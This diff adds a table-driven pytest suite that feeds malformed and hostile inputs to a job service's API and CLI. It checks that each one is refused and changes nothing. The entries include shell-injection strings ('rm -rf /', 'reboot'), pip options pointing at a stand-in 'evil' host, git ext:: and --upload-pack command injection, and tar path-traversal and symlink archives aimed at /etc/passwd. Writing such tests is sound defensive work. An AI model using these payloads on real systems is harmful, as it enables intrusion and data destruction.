@@ -1,0 +1,470 @@
+"""Malformed and hostile input, table-driven, across the API and the CLI.
+
+Every input must get one clear refusal — from the API a 4xx whose JSON
+`detail` says why, from the CLI one `cast: error:` line on stderr and a
+non-zero exit, never a traceback — and must change nothing: the runs (with
+their statuses and labels), uploads, users, tokens and stored files are
+compared before and after each input, and the server's log must show no
+unhandled error.
+
+One server (with a local worker) serves the whole table. It holds a complete
+run with outputs (`{done}`), a run that stays queued (`{queued}`: it asks for
+GPUs the worker lacks), a folder upload `data`, and a git repository; `{next}`
+is the number the next run would get, so mounting it is a mount cycle.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import io
+import json
+import re
+import subprocess
+import tarfile
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import httpx
+import pytest
+
+NOT_SET = object()
+BIG = "99999999999999999999"  # beyond 64 bits
+HEX_KEY = "ab" * 32
+
+
+@dataclass(frozen=True)
+class ApiInput:
+    """A request and the refusal it must get."""
+
+    what: str
+    method: str
+    path: str  # under /api/v1; {done}, {queued}, {next} are filled in
+    status: int
+    detail: str  # a substring of the answer's `detail`
+    json: object = NOT_SET
+    content: bytes | None = None
+    params: dict | None = None
+    headers: dict = field(default_factory=dict)
+    token: str = "admin"  # "admin", "worker", "none", or the literal token to send
+
+
+@dataclass(frozen=True)
+class CliInput:
+    """A `cast` command line and the one error line it must print."""
+
+    what: str
+    args: tuple
+    exit_code: int
+    needle: str
+    env: dict = field(default_factory=dict)
+
+
+def _tar(*members: tarfile.TarInfo, data: bytes = b"evil\n") -> bytes:
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w") as archive:
+        for member in members:
+            if member.isfile():
+                member.size = len(data)
+                archive.addfile(member, io.BytesIO(data))
+            else:
+                archive.addfile(member)
+    return buffer.getvalue()
+
+
+def _member(name: str, kind=tarfile.REGTYPE, target: str = "") -> tarfile.TarInfo:
+    info = tarfile.TarInfo(name)
+    info.type = kind
+    info.linkname = target
+    return info
+
+
+def _run(**spec) -> dict:
+    return {"command": "true", **spec}
+
+
+MARKER = "/tmp/cast-bad-input-pwned"
+
+API_INPUTS = [
+    # --- unknown runs and numbers out of range
+    ApiInput("unknown run", "GET", "/runs/424242", 404, "run 424242 not found"),
+    ApiInput("run id beyond 64 bits", "GET", f"/runs/{BIG}", 422, "run_id"),
+    ApiInput("negative run id", "GET", "/runs/-1", 422, "run_id"),
+    ApiInput("run id not a number", "GET", "/runs/abc", 422, "run_id"),
+    ApiInput("stop an unknown run", "POST", "/runs/424242/stop", 404, "run 424242 not found"),
+    ApiInput("kill a run id beyond 64 bits", "POST", f"/runs/{BIG}/kill", 422, "run_id"),
+    ApiInput("label an unknown run", "POST", "/runs/424242/labels", 404, "not found", json={"label": "x"}),
+    ApiInput("logs of an unknown run", "GET", "/runs/424242/logs", 404, "not found"),
+    ApiInput("follow an unknown run", "GET", "/runs/424242/logs/follow", 404, "not found"),
+    ApiInput("outputs of an unknown run", "GET", "/runs/424242/outputs", 404, "not found"),
+    ApiInput("log offset beyond 64 bits", "GET", "/runs/{done}/logs", 422, "offset", params={"offset": BIG}),
+    ApiInput("log limit zero", "GET", "/runs/{done}/logs", 422, "limit", params={"limit": 0}),
+    ApiInput("log limit too large", "GET", "/runs/{done}/logs", 422, "limit", params={"limit": 10001}),
+    ApiInput("negative list limit", "GET", "/runs", 422, "limit", params={"limit": -5}),
+    ApiInput("list limit too large", "GET", "/runs", 422, "limit", params={"limit": 501}),
+    ApiInput("negative page cursor", "GET", "/runs", 422, "before", params={"before": -1}),
+    ApiInput("unknown status filter", "GET", "/runs", 422, "status", params={"status": "sleeping"}),
+    ApiInput("stop a finished run", "POST", "/runs/{done}/stop", 409, "complete"),
+    ApiInput("kill a finished run", "POST", "/runs/{done}/kill", 409, "complete"),
+    ApiInput("remove a label the run lacks", "DELETE", "/runs/{done}/labels/nope", 404, "nope"),
+    ApiInput("label with a space", "POST", "/runs/{done}/labels", 400, "label", json={"label": "a b"}),
+    ApiInput("label of the wrong type", "POST", "/runs/{done}/labels", 422, "label", json={"label": 5}),
+    # --- paths in outputs and uploads
+    ApiInput("output path with ..", "GET", "/runs/{done}/outputs/%2e%2e/%2e%2e/cast.db", 400, "'..'"),
+    ApiInput("absolute output path", "GET", "/runs/{done}/outputs/%2Fetc%2Fpasswd", 400, "absolute"),
+    ApiInput("missing output path", "GET", "/runs/{done}/outputs/nope.txt", 404, "nope.txt"),
+    ApiInput("upload path with ..", "GET", "/uploads/data/%2e%2e/%2e%2e/cast.db", 400, "'..'"),
+    ApiInput("upload named ..", "PUT", "/uploads/%2e%2e", 400, "upload name", content=b"x"),
+    ApiInput("upload name starting with -", "PUT", "/uploads/-rf", 400, "not start with '-'", content=b"x"),
+    ApiInput("upload name with a NUL", "PUT", "/uploads/a%00b", 400, "upload name", content=b"x"),
+    ApiInput("upload name with a newline", "PUT", "/uploads/a%0Ab", 400, "upload name", content=b"x"),
+    ApiInput("upload name taken", "PUT", "/uploads/data", 409, "already exists", content=b"other bytes"),
+    ApiInput("unknown upload kind", "PUT", "/uploads/new", 422, "kind", content=b"x", params={"kind": "zip"}),
+    ApiInput("folder upload that is not a tar", "PUT", "/uploads/new", 400, "not a tar", content=b"not a tar" * 200,
+             params={"kind": "dir"}),
+    ApiInput("folder upload escaping with ..", "PUT", "/uploads/new", 400, "'..'",
+             content=_tar(_member("../../evil.txt")), params={"kind": "dir"}),
+    ApiInput("folder upload with an absolute name", "PUT", "/uploads/new", 400, "absolute",
+             content=_tar(_member("/tmp/evil.txt")), params={"kind": "dir"}),
+    ApiInput("folder upload with a symlink", "PUT", "/uploads/new", 400, "links",
+             content=_tar(_member("passwd", tarfile.SYMTYPE, "/etc/passwd")), params={"kind": "dir"}),
+    ApiInput("folder upload with a hard link", "PUT", "/uploads/new", 400, "links",
+             content=_tar(_member("passwd", tarfile.LNKTYPE, "/etc/passwd")), params={"kind": "dir"}),
+    ApiInput("folder upload with a device", "PUT", "/uploads/new", 400, "devices",
+             content=_tar(_member("null", tarfile.CHRTYPE)), params={"kind": "dir"}),
+    # --- mounts
+    ApiInput("mount leaving runs/ with ..", "POST", "/runs", 400, "must be runs/N",
+             json=_run(mounts=[{"resource": "runs/{done}/../../etc"}])),
+    ApiInput("mount escaping the data with ..", "POST", "/runs", 400, "'..'",
+             json=_run(mounts=[{"resource": "runs/{done}/../../../etc"}])),
+    ApiInput("mount of an absolute source", "POST", "/runs", 400, "absolute", json=_run(mounts=[{"resource": "/etc/passwd"}])),
+    ApiInput("mount path with ..", "POST", "/runs", 400, "'..'",
+             json=_run(mounts=[{"resource": "runs/{done}/out.txt", "path": "../../escape"}])),
+    ApiInput("absolute mount path", "POST", "/runs", 400, "absolute",
+             json=_run(mounts=[{"resource": "runs/{done}/out.txt", "path": "/etc/out.txt"}])),
+    ApiInput("mount of an unknown run", "POST", "/runs", 400, "does not exist", json=_run(mounts=[{"resource": "runs/424242"}])),
+    ApiInput("mount of an unfinished run", "POST", "/runs", 400, "machine_requested",
+             json=_run(mounts=[{"resource": "runs/{queued}"}])),
+    ApiInput("mount cycle: the run's own number", "POST", "/runs", 400, "does not exist",
+             json=_run(mounts=[{"resource": "runs/{next}"}])),
+    ApiInput("mount of a missing path", "POST", "/runs", 400, "nope.txt",
+             json=_run(mounts=[{"resource": "runs/{done}/nope.txt"}])),
+    ApiInput("mount of an unknown upload", "POST", "/runs", 400, "none", json=_run(mounts=[{"resource": "uploads/none"}])),
+    ApiInput("two mounts on one path", "POST", "/runs", 400, "two mounts on one path",
+             json=_run(mounts=[{"resource": "runs/{done}/out.txt", "path": "x"}, {"resource": "uploads/data", "path": "x"}])),
+    ApiInput("mount inside another mount", "POST", "/runs", 400, "overlap",
+             json=_run(mounts=[{"resource": "uploads/data", "path": "a"}, {"resource": "runs/{done}/out.txt", "path": "a/b"}])),
+    ApiInput("mount resource with a path and a colon", "POST", "/runs", 422, "':'",
+             json=_run(mounts=[{"resource": "runs/{done}:x", "path": "y"}])),
+    # --- packages: option and shell injection
+    ApiInput("pip spec with a shell command", "POST", "/runs", 400, "not a package requirement", json=_run(pip=["six; rm -rf /"])),
+    ApiInput("pip option injection", "POST", "/runs", 400, "not a package requirement",
+             json=_run(pip=["--index-url http://evil"])),
+    ApiInput("pip URL", "POST", "/runs", 400, "not a package requirement", json=_run(pip=["git+https://evil/x.git"])),
+    ApiInput("requirements file with an index option", "POST", "/runs", 400, "not a package requirement",
+             json=_run(pip_req="six\n--extra-index-url http://evil\n")),
+    ApiInput("apt package with a shell command", "POST", "/runs", 400, "Debian package", json=_run(apt=["vim; reboot"])),
+    ApiInput("apt option injection", "POST", "/runs", 400, "Debian package", json=_run(apt=["--allow-unauthenticated"])),
+    ApiInput("docker image option injection", "POST", "/runs", 422, "docker_image", json=_run(docker_image="--privileged")),
+    # --- code sources
+    ApiInput("unreachable git URL", "POST", "/runs", 400, "unreachable", json=_run(git_url="file:///nonexistent/repo")),
+    ApiInput("unknown git ref", "POST", "/runs", 400, "no-such-branch",
+             json=_run(git_url="{repo}", commit_ref="no-such-branch")),
+    ApiInput("git ext:: transport running a command", "POST", "/runs", 400, "not allowed",
+             json=_run(git_url=f"ext::sh -c touch% {MARKER}")),
+    ApiInput("git URL that is an option", "POST", "/runs", 422, "must not start with '-'",
+             json=_run(git_url=f"--upload-pack=touch {MARKER}")),
+    ApiInput("git ref that is an option", "POST", "/runs", 422, "must not start with '-'",
+             json=_run(git_url="{repo}", commit_ref=f"--output={MARKER}")),
+    ApiInput("git ref with a range", "POST", "/runs", 422, "not a git ref", json=_run(git_url="{repo}", commit_ref="main..HEAD")),
+    ApiInput("unknown code bundle", "POST", "/runs", 400, "unknown", json=_run(code_bundle=HEX_KEY)),
+    ApiInput("git URL and code bundle together", "POST", "/runs", 422, "not both",
+             json=_run(git_url="{repo}", code_bundle=HEX_KEY)),
+    ApiInput("code bundle key not hex", "PUT", "/code/not-a-key", 422, "key", content=b"x"),
+    ApiInput("code bundle that is not a tar", "PUT", f"/code/{HEX_KEY}", 400, "not a tar", content=b"garbage" * 100),
+    # --- commands and bodies
+    ApiInput("empty command", "POST", "/runs", 422, "command", json={"command": ""}),
+    ApiInput("oversized command", "POST", "/runs", 422, "65536", json={"command": "x" * 65537}),
+    ApiInput("command with a NUL byte", "POST", "/runs", 422, "NUL", json={"command": "echo a\x00b"}),
+    ApiInput("oversized body", "POST", "/runs", 413, "limit", json={"command": "true", "pip_req": "#" * (17 * 1024 * 1024)}),
+    ApiInput("invalid UTF-8 in the body", "POST", "/runs", 400, "parsing the body",
+             content=b'{"command": "echo \xff\xfe"}', headers={"Content-Type": "application/json"}),
+    ApiInput("lone surrogate in a value", "POST", "/runs", 422, "unicode",
+             content=b'{"command": "true", "env": {"A": "\\udcff"}}', headers={"Content-Type": "application/json"}),
+    ApiInput("lone surrogate in a key", "POST", "/runs", 422, "unicode",
+             content=b'{"command": "true", "env": {"\\udcff": "a"}}', headers={"Content-Type": "application/json"}),
+    ApiInput("lone surrogate in a token request", "POST", "/tokens", 422, "unicode",
+             content=b'{"user": "\\ud800"}', headers={"Content-Type": "application/json"}),
+    ApiInput("body that is not JSON", "POST", "/runs", 422, "JSON",
+             content=b"{command: true", headers={"Content-Type": "application/json"}),
+    ApiInput("body that is a list", "POST", "/runs", 422, "dictionary", json=["true"]),
+    ApiInput("unknown field", "POST", "/runs", 422, "privileged", json=_run(privileged=True)),
+    # --- wrong types and numbers
+    ApiInput("command of the wrong type", "POST", "/runs", 422, "command", json={"command": 5}),
+    ApiInput("pip as a string", "POST", "/runs", 422, "pip", json=_run(pip="six")),
+    ApiInput("env value of the wrong type", "POST", "/runs", 422, "env", json=_run(env={"A": 1})),
+    ApiInput("retries of the wrong type", "POST", "/runs", 422, "retries", json=_run(retries="many")),
+    ApiInput("negative timeout", "POST", "/runs", 422, "timeout", json=_run(timeout=-1)),
+    ApiInput("zero timeout", "POST", "/runs", 422, "timeout", json=_run(timeout=0)),
+    ApiInput("huge timeout", "POST", "/runs", 422, "timeout", json=_run(timeout=1e308)),
+    ApiInput("negative retries", "POST", "/runs", 422, "retries", json=_run(retries=-1)),
+    ApiInput("too many retries", "POST", "/runs", 422, "retries", json=_run(retries=11)),
+    ApiInput("retries beyond 64 bits", "POST", "/runs", 422, "retries", json=_run(retries=int(BIG))),
+    ApiInput("too many GPUs", "POST", "/runs", 400, "between 1 and 16", json=_run(machine_type="gpu:99")),
+    ApiInput("negative GPUs", "POST", "/runs", 400, "machine type", json=_run(machine_type="gpu:-1")),
+    # --- environment names and labels
+    ApiInput("env name starting with a digit", "POST", "/runs", 400, "not valid", json=_run(env={"1BAD": "x"})),
+    ApiInput("env name with =", "POST", "/runs", 400, "not valid", json=_run(env={"A=B": "x"})),
+    ApiInput("empty env name", "POST", "/runs", 400, "not valid", json=_run(env={"": "x"})),
+    ApiInput("env value with a NUL byte", "POST", "/runs", 422, "NUL", json=_run(env={"A": "a\x00b"})),
+    ApiInput("run label with a space", "POST", "/runs", 400, "label", json=_run(labels=["a b"])),
+    ApiInput("run label too long", "POST", "/runs", 400, "label", json=_run(labels=["x" * 64])),
+    # --- tokens
+    ApiInput("no token", "GET", "/runs", 401, "missing bearer token", token="none"),
+    ApiInput("unknown token", "GET", "/runs", 401, "unknown token", token="cast_u_nope"),
+    ApiInput("basic auth instead of a bearer token", "GET", "/runs", 401, "missing bearer token",
+             token="none", headers={"Authorization": "Basic YWRtaW46YWRtaW4="}),
+    ApiInput("token of 4000 characters", "GET", "/runs", 401, "unknown token", token="x" * 4000),
+    ApiInput("token with bytes beyond ASCII", "GET", "/runs", 401, "unknown token",
+             token="none", headers={"Authorization": b"Bearer \xff\xfe"}),
+    ApiInput("worker token on a user route", "GET", "/runs", 403, "user token", token="worker"),
+    ApiInput("user token on a worker route", "POST", "/workers", 403, "worker token",
+             json={"name": "w", "executor": "local"}),
+    # --- users and tokens
+    ApiInput("user name with ..", "POST", "/users", 422, "user name", json={"name": "../x"}),
+    ApiInput("user name taken", "POST", "/users", 409, "already exists", json={"name": "admin"}),
+    ApiInput("admin flag of the wrong type", "POST", "/users", 422, "admin", json={"name": "eve", "admin": "yes please"}),
+    ApiInput("unknown token kind", "POST", "/tokens", 422, "kind", json={"kind": "root"}),
+    ApiInput("token for an unknown user", "POST", "/tokens", 404, "nobody", json={"user": "nobody"}),
+    ApiInput("revoke an unknown token", "DELETE", "/tokens/424242", 404, "token 424242 not found"),
+    ApiInput("revoke a token id beyond 64 bits", "DELETE", f"/tokens/{BIG}", 422, "token_id"),
+    ApiInput("revoke token zero", "DELETE", "/tokens/0", 422, "token_id"),
+    # --- worker routes
+    ApiInput("lease for an unknown worker", "POST", "/workers/w-nobody/lease", 404, "register again", json={}, token="worker"),
+    ApiInput("negative lease wait", "POST", "/workers/w-nobody/lease", 422, "wait", json={"wait": -1}, token="worker"),
+    ApiInput("heartbeat with a wrong lease", "POST", "/runs/{done}/heartbeat", 409, "lease",
+             json={"lease_token": "stolen"}, token="worker"),
+    ApiInput("unknown status from a worker", "POST", "/runs/{done}/status", 422, "status",
+             json={"lease_token": "stolen", "status": "exploded"}, token="worker"),
+    ApiInput("log append to an unknown run", "POST", "/runs/424242/logs", 404, "not found",
+             json={"lease_token": "x", "seq": 0, "entries": []}, token="worker"),
+    ApiInput("log append with a negative seq", "POST", "/runs/{done}/logs", 422, "seq",
+             json={"lease_token": "x", "seq": -1, "entries": []}, token="worker"),
+    ApiInput("outputs without a lease token", "PUT", "/runs/{done}/outputs", 422, "x-lease-token",
+             content=_tar(_member("a.txt")), token="worker"),
+    ApiInput("outputs with a wrong lease", "PUT", "/runs/{done}/outputs", 409, "lease",
+             content=_tar(_member("a.txt")), headers={"X-Lease-Token": "stolen"}, token="worker"),
+    ApiInput("mount fetch with ..", "GET", "/workers/mounts/runs%2F1%2F..%2F..%2F..%2Fcast.db", 400, "'..'", token="worker"),
+]
+
+CLI_INPUTS = [
+    # --- unknown runs and numbers
+    CliInput("info of an unknown run", ("info", "424242"), 1, "run 424242 not found"),
+    CliInput("info of a run id beyond 64 bits", ("info", BIG), 1, "run_id"),
+    CliInput("info of a run id that is not a number", ("info", "abc"), 2, "not a valid integer"),
+    CliInput("logs of an unknown run", ("logs", "424242"), 1, "not found"),
+    CliInput("negative --tail", ("logs", "{done}", "--tail", "-3"), 2, "--tail"),
+    CliInput("stop an unknown run", ("stop", "424242"), 1, "run 424242"),
+    CliInput("stop a finished run", ("stop", "{done}"), 1, "complete"),
+    CliInput("kill a run id beyond 64 bits", ("kill", BIG), 1, "run_id"),
+    CliInput("label an unknown run", ("label", "424242", "x"), 1, "not found"),
+    CliInput("label with a space", ("label", "{done}", "a b"), 2, "label"),
+    CliInput("ls of a run id beyond 64 bits", ("ls", f"runs/{BIG}"), 2, "not a run number"),
+    CliInput("ps with limit zero", ("ps", "--limit", "0"), 2, "--limit"),
+    CliInput("ps with a huge limit", ("ps", "--limit", BIG), 2, "--limit"),
+    CliInput("ps with an unknown status", ("ps", "--status", "sleeping"), 2, "sleeping"),
+    # --- mounts
+    CliInput("mount escaping with ..", ("run", "-m", "runs/{done}/../../etc", "true"), 2, "runs/N"),
+    CliInput("mount of an absolute source", ("run", "-m", "/etc/passwd", "true"), 2, "absolute"),
+    CliInput("absolute mount path", ("run", "-m", "runs/{done}/out.txt:/etc/out.txt", "true"), 2, "absolute"),
+    CliInput("two mounts on one path", ("run", "-m", "runs/{done}/out.txt:x", "-m", "uploads/data:x", "true"), 2,
+             "two mounts on one path"),
+    CliInput("mount cycle: the run's own number", ("run", "-m", "runs/{next}", "true"), 1, "does not exist"),
+    CliInput("mount of an unfinished run", ("run", "-m", "runs/{queued}", "true"), 1, "machine_requested"),
+    CliInput("mount of a missing path", ("run", "-m", "runs/{done}/nope.txt", "true"), 1, "nope.txt"),
+    # --- packages and code
+    CliInput("pip spec with a shell command", ("run", "--pip", "six; rm -rf /", "true"), 2, "not a package requirement"),
+    CliInput("pip option injection", ("run", "--pip", "--index-url http://evil", "true"), 2, "not a package requirement"),
+    CliInput("requirements file with an index option", ("run", "--pip-req", "evil-requirements.txt", "true"), 1,
+             "not a package requirement"),
+    CliInput("apt package with a shell command", ("run", "--apt", "vim; reboot", "true"), 2, "Debian package"),
+    CliInput("unreachable git URL", ("run", "--github-url", "file:///nonexistent/repo", "true"), 1, "unreachable"),
+    CliInput("unknown git ref", ("run", "--github-url", "{repo}", "--commit-ref", "no-such-branch", "true"), 1,
+             "no-such-branch"),
+    CliInput("git ref without a git URL", ("run", "--commit-ref", "main", "true"), 2, "--github-url"),
+    # --- commands, encodings, numbers
+    CliInput("oversized command", ("run", "x" * 70000), 1, "65536"),
+    CliInput("invalid UTF-8 in the command", ("run", b"echo \xff\xfe"), 1, "unicode"),
+    CliInput("invalid UTF-8 in an env value", ("run", "-e", b"A=\xff", "true"), 1, "unicode"),
+    CliInput("negative timeout", ("run", "--timeout", "-5", "true"), 2, "--timeout"),
+    CliInput("infinite timeout", ("run", "--timeout", "1e999", "true"), 2, "finite"),
+    CliInput("timeout that is not a duration", ("run", "--timeout", "soon", "true"), 2, "--timeout"),
+    CliInput("negative retries", ("run", "--retries", "-1", "true"), 2, "between 0 and 10"),
+    CliInput("retries beyond 64 bits", ("run", "--retries", BIG, "true"), 2, "between 0 and 10"),
+    CliInput("too many GPUs", ("run", "-t", "gpu:99", "true"), 2, "between 1 and 16"),
+    CliInput("env name starting with a digit", ("run", "-e", "1BAD=x", "true"), 2, "not valid"),
+    CliInput("env without a value", ("run", "-e", "NOVALUE", "true"), 2, "NAME=VALUE"),
+    CliInput("run label with a space", ("run", "--label", "a b", "true"), 2, "label"),
+    CliInput("run file with a wrong type", ("run", "--from-file", "wrong-type.yaml"), 2, "whole number"),
+    CliInput("run file with an unknown key", ("run", "--from-file", "unknown-key.yaml"), 2, "unknown key"),
+    # --- cp and upload names
+    CliInput("cp escaping with ..", ("cp", "runs/{done}/../../x"), 2, "runs/N"),
+    CliInput("cp of an absolute path", ("cp", "/etc/passwd"), 2, "absolute"),
+    CliInput("cp of a missing output", ("cp", "runs/{done}/nope.txt"), 1, "no such file"),
+    CliInput("cp of an unknown upload", ("cp", "uploads/none"), 1, "not found"),
+    CliInput("upload named with ..", ("upload", "file.txt", "-n", "../evil"), 2, "upload name"),
+    CliInput("upload named like an option", ("upload", "file.txt", "-n", "-rf"), 2, "not start with '-'"),
+    CliInput("upload name taken", ("upload", "file.txt", "-n", "data"), 1, "already exists"),
+    CliInput("upload of a missing file", ("upload", "missing.txt"), 2, "no such file"),
+    # --- tokens, servers, users
+    CliInput("unknown token", ("ps",), 1, "unknown token", env={"CAST_TOKEN": "cast_u_nope"}),
+    CliInput("worker token for a user command", ("ps",), 1, "user token", env={"CAST_TOKEN": "{worker_token}"}),
+    CliInput("token with non-ASCII characters", ("ps",), 1, "characters", env={"CAST_TOKEN": "токен"}),
+    CliInput("server port out of range", ("ps",), 1, "must look like", env={"CAST_SERVER_URL": "http://127.0.0.1:99999"}),
+    CliInput("server URL that is not a URL", ("ps",), 1, "must look like", env={"CAST_SERVER_URL": "garbage"}),
+    CliInput("user name with ..", ("user", "create", "../x"), 1, "user name"),
+    CliInput("user name taken", ("user", "create", "admin"), 1, "already exists"),
+    CliInput("token for an unknown user", ("token", "create", "--user", "nobody"), 1, "nobody"),
+    CliInput("revoke an unknown token", ("token", "revoke", "424242"), 1, "not found"),
+    CliInput("revoke a token id beyond 64 bits", ("token", "revoke", BIG), 1, "token_id"),
+    CliInput("worker token for a user", ("token", "create", "--worker", "--user", "admin"), 2, "--worker"),
+]
+
+
+# --- the shared world ---------------------------------------------------------------
+
+@pytest.fixture(scope="module")
+def world(module_server, module_worker, module_cli, module_dir) -> dict:
+    """A complete run with outputs, a queued run, an upload, a git repo and input files."""
+    files = module_dir
+    (files / "file.txt").write_text("x\n")
+    (files / "data").mkdir()
+    (files / "data" / "a.txt").write_text("a\n")
+    (files / "evil-requirements.txt").write_text("six\n--extra-index-url http://evil\n")
+    (files / "wrong-type.yaml").write_text("command: 'true'\nretries: many\n")
+    (files / "unknown-key.yaml").write_text("command: 'true'\nprivileged: true\n")
+    repo = files / "repo"
+    git = ["git", "-c", "user.name=t", "-c", "user.email=t@example.com", "-C", str(repo)]
+    subprocess.run(["git", "init", "-q", "-b", "main", str(repo)], check=True)
+    (repo / "train.py").write_text("print('hi')\n")
+    subprocess.run([*git, "add", "."], check=True)
+    subprocess.run([*git, "commit", "-q", "-m", "first"], check=True)
+
+    done = module_cli("run", "mkdir -p d && echo hi > d/f.txt && echo out > out.txt")
+    assert done.returncode == 0, done
+    done_id = int(re.search(r"Casting run #(\d+)", done.stdout).group(1))
+    assert module_cli("upload", "data").returncode == 0
+    queued = module_cli("run", "-d", "--json", "-t", "gpu:2", "true")  # the worker has no GPU: it stays queued
+    assert queued.returncode == 0, queued
+    queued_id = queued.json()["id"]
+    module_cli("label", str(done_id), "keep")
+    yield {"done": done_id, "queued": queued_id, "next": queued_id + 1, "repo": f"file://{repo}",
+           "worker_token": module_server.worker_token}
+    module_cli("kill", str(queued_id))
+
+
+def _fill(value, world: dict):
+    """`value` with {done}, {queued}, {next}, {repo}, {worker_token} filled in, recursively."""
+    if isinstance(value, str):
+        for key, replacement in world.items():
+            value = value.replace("{" + key + "}", str(replacement))
+        return value
+    if isinstance(value, list):
+        return [_fill(item, world) for item in value]
+    if isinstance(value, tuple):
+        return tuple(_fill(item, world) for item in value)
+    if isinstance(value, dict):
+        return {_fill(k, world): _fill(v, world) for k, v in value.items()}
+    return value
+
+
+def _state(server) -> dict:
+    """What an input must not change: runs with statuses and labels, uploads,
+    users, tokens, and the files the server stores."""
+    with server.api() as api:
+        runs = api.get("/runs", params={"limit": 500}).json()["runs"]
+        uploads = api.get("/uploads").json()["uploads"]
+        users = api.get("/users").json()["users"]
+        tokens = api.get("/tokens").json()["tokens"]
+    stored = sorted(str(p.relative_to(server.data_dir)) for p in server.data_dir.rglob("*")
+                    if not p.name.startswith("cast.db") and p.relative_to(server.data_dir).parts[0] != "tmp")
+    return {
+        "runs": [(r["id"], r["status"], tuple(r["labels"])) for r in runs],
+        "uploads": sorted((u["name"], u["size"], u["files"]) for u in uploads),
+        "users": [(u["name"], u["admin"]) for u in users],
+        "tokens": [(t["id"], t["revoked_at"]) for t in tokens],
+        "stored": stored,
+        "data_upload": hashlib.sha256((server.data_dir / "uploads" / "data" / "a.txt").read_bytes()).hexdigest(),
+    }
+
+
+@pytest.fixture
+def unchanged(module_server, world):
+    """Checks, after the test, that the server's state is as before and that
+    its log shows no unhandled error."""
+    before = _state(module_server)
+    log_size = module_server.log_path.stat().st_size
+    yield
+    assert _state(module_server) == before
+    with open(module_server.log_path, "rb") as log:
+        log.seek(log_size)
+        new_log = log.read().decode("utf-8", "replace")
+    assert "Traceback" not in new_log and "Exception in ASGI" not in new_log, new_log[-3000:]
+    assert not Path(MARKER).exists(), "an injected command ran"
+
+
+# --- the tests --------------------------------------------------------------------
+
+def test_the_tables_are_large_enough():
+    assert len(API_INPUTS) + len(CLI_INPUTS) >= 40
+    assert len({i.what for i in API_INPUTS}) == len(API_INPUTS)
+    assert len({i.what for i in CLI_INPUTS}) == len(CLI_INPUTS)
+
+
+@pytest.mark.parametrize("case", API_INPUTS, ids=[i.what for i in API_INPUTS])
+def test_api_refuses(case: ApiInput, module_server, world, unchanged):
+    tokens = {"admin": module_server.admin_token, "worker": module_server.worker_token}
+    headers = {}
+    if case.token != "none":
+        headers["Authorization"] = f"Bearer {tokens.get(case.token, case.token)}"
+    headers.update(case.headers)
+    request = {"params": _fill(case.params, world), "headers": headers}
+    if case.json is not NOT_SET:
+        request["content"] = json.dumps(_fill(case.json, world)).encode()
+        headers.setdefault("Content-Type", "application/json")
+    elif case.content is not None:
+        request["content"] = case.content
+    # The path goes out as written (percent-escapes and dot segments included).
+    url = httpx.URL(module_server.url).copy_with(raw_path=("/api/v1" + _fill(case.path, world)).encode())
+    response = httpx.request(case.method, url, timeout=30, **request)
+    assert response.status_code == case.status, (case.what, response.status_code, response.text[:500])
+    assert response.headers["content-type"] == "application/json"
+    detail = response.json()["detail"]
+    assert isinstance(detail, str) and detail, response.text
+    assert "\n" not in detail
+    assert case.detail.lower() in detail.lower(), (case.what, detail)
+
+
+@pytest.mark.parametrize("case", CLI_INPUTS, ids=[i.what for i in CLI_INPUTS])
+def test_cli_refuses(case: CliInput, module_cli, module_dir, world, unchanged):
+    args = [arg if isinstance(arg, bytes) else _fill(arg, world) for arg in case.args]
+    result = module_cli(*args, env=_fill(case.env, world))
+    assert result.returncode == case.exit_code, (case.what, result)
+    lines = result.stderr.splitlines()
+    assert len(lines) == 1 and lines[0].startswith("cast: error: "), (case.what, result.stderr)
+    assert "Traceback" not in result.stderr + result.stdout
+    # A bug caught by the CLI's last resort says "unexpected": not a clear refusal.
+    assert "unexpected" not in lines[0], lines[0]
+    assert case.needle.lower() in lines[0].lower(), (case.what, lines[0])
+    assert result.stdout == ""
+    assert not (module_dir / "x").exists() and not (module_dir / "nope.txt").exists()
+
+
+def test_the_queued_run_is_still_waiting(module_server, world):
+    """The table left the world as it found it: the queued run still waits, the
+    complete run keeps its outputs and label."""
+    with module_server.api() as api:
+        assert api.get(f"/runs/{world['queued']}").json()["status"] == "machine_requested"
+        done = api.get(f"/runs/{world['done']}").json()
+        assert done["status"] == "complete" and done["labels"] == ["keep"]
+        paths = [f["path"] for f in api.get(f"/runs/{world['done']}/outputs").json()["files"]]
+        assert paths == ["d/f.txt", "out.txt"]
